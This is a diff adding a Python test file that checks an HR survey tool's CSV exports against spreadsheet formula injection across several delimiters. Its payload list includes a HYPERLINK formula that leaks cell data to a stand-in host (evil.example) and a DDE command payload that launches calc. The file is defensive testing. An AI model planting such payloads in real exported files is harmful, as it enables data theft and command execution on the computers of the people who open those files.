@@ -1,0 +1,145 @@
+"""Attack 35: be called like a formula, and have it computed where somebody opens a file of ours.
+
+Whoever names a team, a person, a customer or a contact's key writes into files that HR opens in a
+spreadsheet; German ones split at semicolons, others at commas or tabs. Every file that we write for
+spreadsheets is opened in each of these ways. Control: the same names written as programs usually write them.
+"""
+
+import ast
+import csv
+import io
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner, Result
+
+from api.cli import resonanz
+from api.insights.reporting import Reporter
+from api.settings import read_settings
+from survey.waves.closing import close_wave
+from tests.survey.waves.week import everybody_answers, hire, open_week
+
+ROOT = Path(__file__).parents[2]
+HOSTILE = (
+    '=HYPERLINK("https://evil.example?"&A2)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "'=1+1",
+    "''=1+1",
+    "＝1+1",
+    "Nord;=1+1",
+    "Nord,=1+1",
+    "Nord|+1",
+    'Nord";=1+1;"',
+    "Nord\";'=1+1",
+    "Nord;;@SUM(1)",
+)
+# Every place in our sources where a table is written.
+WRITERS = {"api/panel_file/writing.py", "api/cli/wave.py", "api/cli/import_contacts.py"}
+
+
+def formulas(file: bytes) -> set[str]:
+    """What a spreadsheet would compute, whichever separator its country has."""
+    return {
+        cell
+        for separator in ",;\t|"
+        for row in csv.reader(io.StringIO(file.decode("utf-8-sig"), newline=""), delimiter=separator)
+        for cell in row
+        if cell.startswith(tuple("=+-@\t\r＝＋－＠")) and not is_number(cell)
+    }
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def names_in(file: bytes, column: str) -> list[str]:
+    return [row[column] for row in csv.DictReader(io.StringIO(file.decode(), newline=""))]
+
+
+def run(*words: str) -> Result:
+    done = CliRunner().invoke(resonanz, list(words))
+    assert done.exit_code == 0, done.output
+    return done
+
+
+@pytest.fixture
+def hostile_roster(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """An organisation in which everything is called like a formula, as somebody may import it."""
+    monkeypatch.setenv("RESONANZ_DATA", str(tmp_path / "data"))
+    with (tmp_path / "roster.csv").open("w", encoding="utf-8", newline="") as file:
+        writer = csv.writer(file)
+        writer.writerow(["id", "name", "email", "team", "department", "office"])
+        for number, name in enumerate(HOSTILE):
+            for person in range(8):
+                words = [f"{name} {number} {person}", name, f"{number}.{person}@example.org", name, "=1;=2"]
+                writer.writerow([*words, "front"])
+    run("import-roster", str(tmp_path / "roster.csv"))
+    return tmp_path
+
+
+def test_the_list_of_links_computes_nothing(hostile_roster: Path) -> None:
+    out = hostile_roster / "links.csv"
+    run("wave", "open", "--closes", "2099-01-05T18:00", "--links", str(out))
+    assert formulas(out.read_bytes()) == set()
+    assert len(names_in(out.read_bytes(), "name")) == 8 * len(HOSTILE)
+
+
+def test_the_list_of_contacts_computes_nothing(hostile_roster: Path) -> None:
+    contacts, out = hostile_roster / "contacts.csv", hostile_roster / "out.csv"
+    ended = (datetime.now(UTC) - timedelta(hours=1)).isoformat(timespec="seconds")
+    with contacts.open("w", encoding="utf-8", newline="") as file:
+        writer = csv.writer(file)
+        writer.writerow(["team", "touchpoint", "channel", "ended_at", "customer", "key"])
+        for number, name in enumerate(HOSTILE):
+            writer.writerow([name, "phone", "call", ended, f"=K{number}", f"{name} {number}"])
+    run("import-contacts", str(contacts), "--links", str(out))
+    assert formulas(out.read_bytes()) == set()
+    assert len(names_in(out.read_bytes(), "team")) == len(HOSTILE)
+
+
+async def test_the_panel_computes_nothing_and_reads_back(sqlite_database: str, tmp_path: Path) -> None:
+    await hire(HOSTILE, 8)
+    week = await open_week(tmp_path)
+    await everybody_answers(week)
+    await close_wave(week.keys, week.wave)
+    reporter = Reporter(read_settings({"RESONANZ_DATA": str(tmp_path / "data")}), ("en",))
+    try:
+        file = await reporter.panel_file()
+    finally:
+        reporter.close()
+    assert formulas(file) == set()
+    assert len(set(names_in(file, "team"))) == len(HOSTILE)
+
+
+def test_every_place_that_writes_a_table_is_attacked_here() -> None:
+    found = {
+        path.relative_to(ROOT).as_posix()
+        for folder in ("api", "survey", "analytics")
+        for path in (ROOT / folder).rglob("*.py")
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
+        if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter", "to_csv"}
+    }
+    assert found == WRITERS
+
+
+def written_naively(*names: str) -> bytes:
+    text = io.StringIO(newline="")
+    csv.writer(text).writerows(["2026-W11", name] for name in names)
+    return text.getvalue().encode()
+
+
+def test_the_control_that_writes_names_as_they_are_computes_most_of_them() -> None:
+    computed = [name for name in HOSTILE if formulas(written_naively(name))]
+    assert len(computed) >= 8
+
+
+def test_the_control_that_looks_at_the_beginning_alone_computes_what_german_excel_splits() -> None:
+    beginnings = ["'" + name if name[0] in "=+-@" else name for name in HOSTILE]
+    assert len(formulas(written_naively(*beginnings))) >= 3
